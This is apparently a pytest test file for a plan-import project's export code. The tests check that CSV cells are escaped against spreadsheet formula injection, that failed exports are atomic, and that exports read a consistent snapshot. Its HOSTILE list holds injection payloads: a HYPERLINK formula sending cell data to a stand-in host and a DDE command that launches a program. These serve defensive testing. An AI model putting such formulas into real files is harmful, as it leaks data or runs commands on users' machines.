"""Review findings on the exports: spreadsheet formula injection in the CSV files."""

import pandas as pd
import pytest

from reja.api import load_documents, load_items
from reja.batch import run_import
from reja.export import write_tables

pytestmark = pytest.mark.usefixtures("no_enrichment")

# Texts a district could put in a plan cell that Excel would run as a formula when a clerk opens
# the CSV (=, +, -, @, tab, CR lead a formula or DDE call).
HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "- kitob ko'rgazmasi"]


@pytest.fixture
def frames(tmp_path, fp):
    spec = fp.spec(n=len(HOSTILE))
    for item, text in zip(spec["items"], HOSTILE, strict=True):
        item["text"] = text
    spec["items"][0]["unit"] = "=1+1"
    fp.write(tmp_path / "in" / "izboskan.docx", spec)
    db = tmp_path / "reja.sqlite"
    run_import([tmp_path / "in"], db=db, parse=fp.fake_parse)
    return load_items(db), load_documents(db)


def test_csv_cells_never_start_a_formula_but_parquet_keeps_the_text(frames, tmp_path):
    items, documents = frames
    out = tmp_path / "out"
    write_tables(out, items, documents)
    csv = pd.read_csv(out / "items.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for text in csv["text"].tolist() + csv["unit"].tolist():
        assert text[:1] not in ("=", "+", "-", "@", "\t", "\r"), text
    # the documented escape: one leading apostrophe, the rest of the text unchanged
    assert csv["text"].tolist() == ["'" + t for t in HOSTILE]
    assert csv.loc[0, "unit"] == "'=1+1"
    # numbers stay numbers (a negative value is not a formula)
    assert csv["fact_value"].tolist()[:2] == ["1.0", "2.0"]
    # the canonical data is untouched
    parquet = pd.read_parquet(out / "items.parquet")
    assert parquet["text"].tolist() == HOSTILE
    assert parquet.loc[0, "unit"] == "=1+1"


def test_negative_numbers_in_text_columns_are_left_alone(frames, tmp_path):
    items, documents = frames
    items = items.copy()
    items.loc[0, "fact_raw"] = "-5"
    items.loc[1, "fact_raw"] = "-1,5"
    items.loc[2, "fact_raw"] = "-"  # plans write a lone dash for "none": Excel shows it as text anyway
    out = tmp_path / "out"
    write_tables(out, items, documents)
    csv = pd.read_csv(out / "items.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert csv["fact_raw"].tolist()[:3] == ["-5", "-1,5", "-"]


def test_a_failed_export_leaves_the_whole_previous_export(frames, tmp_path, monkeypatch):
    """The export is one set: a failure while writing the XLSX must not leave a new items.parquet
    and items.csv next to the old reja.xlsx and datapackage.json."""
    import xlsxwriter

    items, documents = frames
    out = tmp_path / "out"
    write_tables(out, items, documents)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    changed = items.copy()
    changed.loc[0, "text"] = "Yangi tadbir"

    def disk_full(self):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xlsxwriter.Workbook, "close", disk_full)
    with pytest.raises(OSError):
        write_tables(out, changed, documents)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # nothing replaced, no temp left


def test_the_datapackage_says_the_csv_escapes_formula_cells(frames, tmp_path):
    import json

    items, documents = frames
    write_tables(tmp_path / "out", items, documents)
    package = json.loads((tmp_path / "out" / "datapackage.json").read_text(encoding="utf-8"))
    csv = {r["name"]: r for r in package["resources"]}["items"]
    assert "apostrophe" in csv["description"] and "Parquet" in csv["description"]


def test_an_import_between_the_two_reads_cannot_split_the_export(tmp_path, fp, monkeypatch):
    """export_dataset read items and documents through two connections: an import committing in
    between (a re-sent plan replacing its earlier version) gave items whose document_id is not in
    documents.parquet. Both tables must come from one snapshot of the store."""
    from reja.export import export_dataset
    from reja.store import Store

    plan = fp.write(tmp_path / "in" / "izboskan.docx", fp.spec(n=3))
    db = tmp_path / "reja.sqlite"
    run_import([plan], db=db, parse=fp.fake_parse)
    original = Store.documents
    state = {"done": False}

    def import_meanwhile(self):
        if not state["done"]:
            state["done"] = True
            fp.write(plan, fp.spec(n=4))  # the district re-sends the plan, the import runs now
            run_import([plan], db=db, parse=fp.fake_parse)
        return original(self)

    monkeypatch.setattr(Store, "documents", import_meanwhile)
    export_dataset(db, tmp_path / "out")
    assert state["done"]
    items = pd.read_parquet(tmp_path / "out" / "items.parquet")
    documents = pd.read_parquet(tmp_path / "out" / "documents.parquet")
    assert set(items["document_id"]) <= set(documents["document_id"])
